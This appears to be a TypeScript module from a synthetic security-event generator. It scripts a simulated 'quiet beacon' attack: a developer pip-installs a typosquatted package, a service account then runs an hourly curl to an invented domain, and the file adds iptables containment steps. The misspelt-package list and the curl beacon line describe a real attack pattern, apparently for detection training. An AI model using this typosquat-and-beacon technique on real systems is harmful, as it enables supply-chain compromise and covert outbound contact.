import { connect } from "../events/network-event.ts";
import { daemon, run } from "../events/process-event.ts";
import type { Host } from "../hosts.ts";
import type { Person } from "../people.ts";
import { inventedWord, strangeDomain } from "../props.ts";
import { staffSession } from "../routine/admin-sessions.ts";
import { strangerAddress } from "../routine/internet-noise.ts";
import { atHost, wait } from "../scene.ts";
import type { Script, Stage } from "../scene.ts";
import { type } from "../ssh-session.ts";
import { HOUR_MS, MINUTE_MS } from "../../seeded/time.ts";
import { serviceAccount } from "../unix-account.ts";
import { cleanHost } from "./response.ts";
import { castHost, castPerson, factsOf, momentOf, tell } from "./story.ts";
import type { Story, StoryOptions } from "./story.ts";

interface Cast {
  readonly host: Host;
  readonly person: Person;
  /** As typed: one letter off the package that was meant. */
  readonly package: string;
  readonly domain: string;
  readonly ip: string;
  readonly line: string;
}

const APP = serviceAccount("app");
const MISSPELT =
  "reqeusts python-dateutils urlib3 pyyamls djangoo colorarna beautifullsoup cryptograhpy nmpy pandsa".split(
    " ",
  );
const PATHS = "health?id= v1/ping?h= status.json?n= metrics?src= beat?k= feeds/rates.json?c=".split(
  " ",
);

/** Looks like one more health check: a misspelt package makes a service call a stranger hour after hour. */
export function quietBeacon(options: StoryOptions): Story {
  const { world, random, start } = options;
  const domain = strangeDomain(random);
  const cast: Cast = {
    host: castHost(options, [...world.hostsOf("worker"), ...world.hostsOf("api")]),
    person: castPerson(options, "developer"),
    package: `${random.pick(MISSPELT)}==${random.int(0, 4)}.${random.int(1, 30)}.${random.int(0, 9)}`,
    domain,
    ip: strangerAddress(random),
    line: `curl -s https://${domain}/${random.pick(PATHS)}${inventedWord(random)} -o /var/lib/app/.rates`,
  };
  const beaconAt = start + random.int(20, 300) * MINUTE_MS;
  const { host, person, ip, line } = cast;
  return tell(options, {
    id: "quiet-beacon",
    kind: "attack",
    platforms: ["linux"],
    rootCause: `${person.login} installed ${cast.package} on ${host.name}`,
    chapters: [
      {
        name: "install",
        start,
        deed: `${person.login} installed ${cast.package} on ${host.name}`,
        facts: factsOf(
          ["user", person.login],
          ["host", host.name],
          ["command", `pip install ${cast.package}`],
        ),
        perform: (stage) => install(stage, cast),
      },
      {
        name: "beacon",
        start: beaconAt,
        deed: `since then ${APP.user} calls ${domain} (${ip})`,
        facts: factsOf(
          ["user", APP.user],
          ["domain", domain],
          ["command", line],
          ["time", momentOf(beaconAt)],
        ),
        perform: (stage) => callHome(stage, cast),
      },
    ],
    response: cleanHost({
      host,
      lines: ["systemctl stop app", `iptables -I OUTPUT -d ${ip} -j DROP`],
    }),
  });
}

const LOOKS =
  "ls;git status;git pull;cat requirements.txt;python3 -V;pip list;ps aux;df -h;tail -n 50 app.log;systemctl status app;git log -3;pip check;ls dist;whoami;date;free -m;env;which python3;cat Makefile;make test;git diff;git stash".split(
    ";",
  );

function* install(stage: Stage, { host, person, package: name }: Cast): Script {
  const scene = atHost(stage, host);
  const session = yield* staffSession(scene, person);
  for (const line of LOOKS) {
    wait(stage, 3000, 60_000);
    yield* type(scene, session, line);
  }
  const argv = ["pip", "install", name];
  const spec = {
    as: session.as,
    exe: "/usr/bin/pip",
    argv,
    parent: session.shell,
    cwd: "/opt/app",
  };
  const pip = yield* run(scene, { ...spec, isCause: true });
  const setup = ["python3", "setup.py", "install"];
  yield* run(scene, { ...spec, exe: "/usr/bin/python3", argv: setup, parent: pip });
}

function* callHome(stage: Stage, { host, domain, ip, line }: Cast): Script {
  const scene = atHost(stage, host);
  const parent = daemon(scene, "/usr/bin/python3");
  const argv = line.split(" ");
  for (let index = 0; index < stage.random.int(9, 20); index += 1) {
    const curl = yield* run(scene, { as: APP, exe: "/usr/bin/curl", argv, parent });
    const socket = { as: APP, process: curl, argv, parent };
    yield connect(scene, { ...socket, remote: { ip, port: 443, domain } });
    wait(stage, HOUR_MS, HOUR_MS + 4 * MINUTE_MS);
  }
}
